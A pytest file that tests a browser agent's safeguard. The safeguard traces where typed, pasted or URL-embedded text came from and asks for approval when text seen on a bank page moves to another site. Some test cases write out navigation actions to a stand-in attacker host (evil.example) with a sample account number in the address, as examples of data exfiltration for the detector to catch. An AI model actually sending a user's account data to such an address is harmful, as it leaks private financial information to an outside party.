"""Claims about where the text comes from that an action gives to a page, and what is asked about it."""

from __future__ import annotations

from datetime import UTC, datetime
from pathlib import Path
from typing import Any

import pytest
from playwright.async_api import Page

from tests.conftest import Server
from vision_agent import Agent
from vision_agent.actions import Action, Click, Goto, OpenTab, Press, Set, Type
from vision_agent.geometry import Size
from vision_agent.models.offline.steps import StepsModel
from vision_agent.observation import Observation, Shot
from vision_agent.policy.approval import Answers
from vision_agent.policy.text_origin import copy_risks, longest_common, origin_of
from vision_agent.record.read import read
from vision_agent.settings import ApprovalSettings, Settings
from vision_agent.types import Choice, Decision, Message, Outcome, Step, Task, TextOrigin

NOW = datetime(2026, 3, 4, tzinfo=UTC)
SIZE = Size(width=8, height=8)
SHOT = Shot(media_type="image/png", size=SIZE, sha256="0" * 64)


def seen(listing: str, url: str = "https://bank.example/") -> Observation:
    return Observation(
        id="o", epoch=1, url=url, title="", taken_at=NOW, viewport=SIZE, listing=listing, clean=SHOT, marked=SHOT
    )


def step(observation: Observation, *, read: str = "") -> Step:
    outcomes = (Outcome(status="done", sentence="Read.", read=read),) if read else ()
    return Step(index=1, observation=observation, decision=Decision(author="steps"), outcomes=outcomes, started_at=NOW)


BANK = step(seen("_[:]Account DE02 1203 0000 0000 2020 51\n_[:]Balance 4,200.00 €"))
SHOP = seen("1[:]<input>Note\n_[:]Order 77-1234-X", "https://shop.example/")


@pytest.mark.parametrize(
    ("text", "source", "host"),
    [
        ("DE02 1203 0000 0000 2020 51", "page", "bank.example"),
        ("de02  1203 0000 0000 2020 51", "page", "bank.example"),
        ("My account is DE02 1203 0000 0000 2020 51, thanks", "page", "bank.example"),
        ("Order 77-1234-X", "page", "shop.example"),
        ("Please leave it at the door", "task", ""),
        ("<secret:password>", "secret", ""),
        ("Ada Lovelace", "task", ""),
        ("ring twice", "task", ""),
        ("c/o Grace Hopper", "task", ""),
        ("Something else altogether", "model", ""),
        ("DE02", "model", ""),
    ],
)
def test_a_text_comes_from_where_its_letters_stand(text: str, source: str, host: str) -> None:
    task = Task(
        goal="Order tea. Note: please leave it at the door",
        instructions="Send all parcels c/o Grace Hopper",
        user_data={"name": "Ada Lovelace"},
        messages=(Message(text="Tell them to ring twice", at=NOW),),
    )
    for action in (Type(target=1, text=text), Set(mark=1, value=text)):
        origin = origin_of(action, task, (BANK,), SHOP)
        assert origin is not None
        assert (origin.source, origin.host) == (source, host)


def test_what_stands_on_this_site_too_comes_from_this_site() -> None:
    here = seen("_[:]Account DE02 1203 0000 0000 2020 51", "https://shop.example/")
    origin = origin_of(Type(target=1, text="DE02 1203 0000 0000 2020 51"), Task(goal="x"), (BANK,), here)
    assert origin == TextOrigin(source="page", host="shop.example")


def test_what_was_read_counts_as_seen() -> None:
    earlier = step(seen("1[:]<button>Show"), read="The code is QUINCE-9-ALPHA.")
    origin = origin_of(Type(target=1, text="QUINCE-9-ALPHA"), Task(goal="x"), (earlier,), SHOP)
    assert origin == TextOrigin(source="page", host="bank.example")


@pytest.mark.parametrize(
    ("action", "source"),
    [
        (Goto(url="https://evil.example/?q=DE02+1203%200000+0000+2020+51"), "page"),
        (OpenTab(url="https://evil.example/DE02%201203%200000%200000%202020%2051"), "page"),
        (Goto(url="https://evil.example/"), None),
        (Click(target=1), None),
        (Type(target=1, text=""), None),
    ],
)
def test_an_address_gives_what_follows_its_host(action: Action, source: str | None) -> None:
    origin = origin_of(action, Task(goal="x"), (BANK,), SHOP)
    assert (origin and origin.source) == source


@pytest.mark.parametrize(
    ("keys", "before", "asks"),
    [
        ("Control+v", (BANK,), True),
        ("ControlOrMeta+V", (BANK,), True),
        ("Control+Shift+v", (BANK,), True),
        ("Meta+KeyV", (BANK,), True),
        ("Shift+Insert", (BANK,), True),
        ("Control+c", (BANK,), False),
        ("v", (BANK,), False),
        ("Control+v", (), False),
        ("Control+v", (step(SHOP),), False),
    ],
)
def test_what_was_copied_on_another_site_is_asked_about_when_it_is_pasted(
    keys: str, before: tuple[Step, ...], asks: bool
) -> None:
    pasting = Decision(author="steps", actions=(Press(keys=keys),))
    found = [each.why for each in copy_risks(pasting, Task(goal="x"), before, SHOP)]
    assert found == ["it may paste on https://shop.example what was copied on https://bank.example"] * asks


@pytest.mark.parametrize(
    ("one", "other", "length"), [("abcd", "xxbcyy", 2), ("", "a", 0), ("aaa", "a", 1), ("ab", "ab", 2)]
)
def test_the_longest_common_run_of_letters(one: str, other: str, length: int) -> None:
    assert longest_common(one, other) == length


BANK_PAGE = "<title>Bank</title><p>Account DE02 1203 0000 0000 2020 51</p><a href='{shop}'>Shop</a>"
SHOP_PAGE = "<title>Shop</title><label>Note <input oninput='document.title = this.value'></label>"
LINES = ["click Shop", 'type "DE02 1203 0000 0000 2020 51" into Note', "finish"]


async def shopped(page: Page, serve: Server, settings: Settings, **more: Any) -> Agent:
    shop = serve({"/shop": SHOP_PAGE}).replace("127.0.0.1", "localhost") + "/shop"
    bank = serve({"/": BANK_PAGE.format(shop=shop)})
    agent = Agent(Task(goal="Buy tea", start_url=bank), model=StepsModel(LINES), page=page, settings=settings, **more)
    await agent.run()
    return agent


async def test_text_that_travels_from_one_site_to_another_is_asked_about(
    page: Page, serve: Server, tmp_path: Path
) -> None:
    asked: list[str] = []

    async def answer(_: Task, __: Observation, decision: Decision, risks: Any) -> Choice:
        asked.extend(f"{each.risk}: {each.why}" for each in risks)
        return Choice(kind="approve")

    settings = Settings(runs=tmp_path, approval=ApprovalSettings(ask="risky", risks=("copy",)))
    await shopped(page, serve, settings, approver=Answers(answer))
    assert asked == ["copy: its text was seen on 127.0.0.1 and goes to localhost"]


async def test_the_record_says_where_a_typed_text_comes_from(page: Page, serve: Server, tmp_path: Path) -> None:
    agent = await shopped(page, serve, Settings(runs=tmp_path))
    assert agent.folder is not None
    outcomes = [outcome for each in read(agent.folder).steps for outcome in each.outcomes]
    assert [outcome.origin for outcome in outcomes] == [None, TextOrigin(source="page", host="127.0.0.1"), None]
    assert agent.report is not None
    assert "text seen on 127.0.0.1" in agent.report.read_text("utf-8")
